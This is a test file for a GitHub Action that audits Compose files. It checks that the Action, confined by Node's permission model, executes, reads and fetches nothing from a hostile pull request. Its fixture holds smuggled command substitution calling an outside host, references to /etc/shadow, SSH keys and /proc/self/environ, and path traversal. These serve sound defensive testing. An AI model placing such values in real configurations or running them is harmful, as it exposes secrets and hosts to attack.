import { globSync } from 'node:fs';
import { afterEach, beforeEach, describe, expect, test } from 'vitest';
import { FakeGitHub } from '../github/fake.ts';
import { type Run, runAction } from '../github/run-action.ts';

/**
 * The built action under Node's permission model, which refuses every file, process and thread that is not allowed here.
 * It may read itself, the event and the two files that it appends to, and write those two and its SARIF file.
 * Source: https://nodejs.org/docs/latest-v24.x/api/permissions.html
 */
const root = new URL('../..', import.meta.url).pathname;
const recorder = `${root}test/hostile/recorder.mjs`;

const confined = (folder: string): readonly string[] => [
  '--permission',
  ...globSync(['dist/*.js', 'dist/package.json'], { cwd: root }).map((path) => `--allow-fs-read=${root}${path}`),
  `--allow-fs-read=${recorder}`,
  ...['event.json', 'output', 'summary', 'reports', 'reports/*'].map((name) => `--allow-fs-read=${folder}/${name}`),
  ...['output', 'summary', 'reports', 'reports/*'].map((name) => `--allow-fs-write=${folder}/${name}`),
  `--import=${recorder}`,
];

interface Recorded {
  readonly what: string;
  readonly detail: string;
}

const recordedIn = ({ log }: Run): readonly Recorded[] =>
  [...log.matchAll(/^recorded (.*)$/gm)].map(([, json = '{}']) => JSON.parse(json) as Recorded);

/** A pull request that names whatever a path, a link or an address could lead to. */
const reaching = [
  'include:',
  '  - /etc/passwd',
  '  - ../../../etc/passwd',
  '  - https://elsewhere.example/compose.yaml',
  '  - git@elsewhere.example:acme/app.git',
  '  - oci://elsewhere.example/acme/app',
  'services:',
  '  web:',
  '    image: elsewhere.example/acme/web',
  '    build: https://elsewhere.example/acme/web.git',
  '    env_file: [/etc/passwd, ~/.ssh/id_rsa, .env]',
  '    extends: {file: /proc/self/environ, service: web}',
  '    command: $(curl https://elsewhere.example) `id` ${HOME} ${GITHUB_TOKEN}',
  '    healthcheck: {test: curl http://elsewhere.example:8080/}',
  'secrets:',
  '  key: {file: /etc/shadow}',
  '  token: {environment: INPUT_GITHUB-TOKEN}',
  '',
].join('\n');

let fake: FakeGitHub;
beforeEach(async () => {
  fake = await FakeGitHub.with(
    { 'README.md': '1' },
    { 'README.md': '1', 'compose.yaml': reaching, '.env': 'A=$HOME\n' },
  );
});
afterEach(() => fake.stop());

describe('nothing of a pull request is executed, opened on disk or fetched', () => {
  test('no process or thread is started, no file read or written but the job’s own, no host asked but the API’s', async () => {
    const inputs = { 'sarif-file': 'reports/report.sarif' };
    const run = await runAction(fake, { action: 'opened', inputs, node: confined });
    expect(run.log).not.toMatch(/ERR_ACCESS_DENIED|restricted|could not be written|by a mistake of its own/);
    expect(run.outputs['conclusion']).toBe('failure');
    expect(run.sarif).toContain('2.1.0');
    const { hostname, port } = new URL(fake.url);
    const record = recordedIn(run);
    expect(record[0]).toEqual({ what: 'ready', detail: '' });
    const places = new Set(record.slice(1).map(({ what, detail }) => `${what} ${detail}`));
    const ours = new Set([`connect ${hostname}:${port}`, `lookup ${hostname}`]);
    expect([...places].filter((place) => !ours.has(place))).toEqual([]);
    expect(places).toContain(`connect ${hostname}:${port}`);
    expect(fake.reviews).toHaveLength(1);
  });

  test('the confinement holds: a file that is not allowed is refused', async () => {
    const tight = (folder: string): readonly string[] =>
      confined(folder).filter((flag) => !flag.includes('event.json'));
    const run = await runAction(fake, { action: 'opened', node: tight });
    expect(run.log).toContain('ERR_ACCESS_DENIED');
    expect(run.exitCode).toBe(1);
  });

  test('variables and files of the runner are no part of the audit', async () => {
    const env = { GITHUB_TOKEN_OF_JOB: 'canary-value', HOME: '/home/canary-value' };
    const run = await runAction(fake, { action: 'opened', env });
    const said = JSON.stringify([fake.reviews, fake.threads, fake.state.checks, run]);
    expect(said.includes('canary-value')).toBe(false);
    expect(said.includes('root:x:0:0')).toBe(false);
    // The runner is told to mask the token; nothing else says it.
    expect(said.replace('::add-mask::ghs_fake', '').includes('ghs_fake')).toBe(false);
  });
});
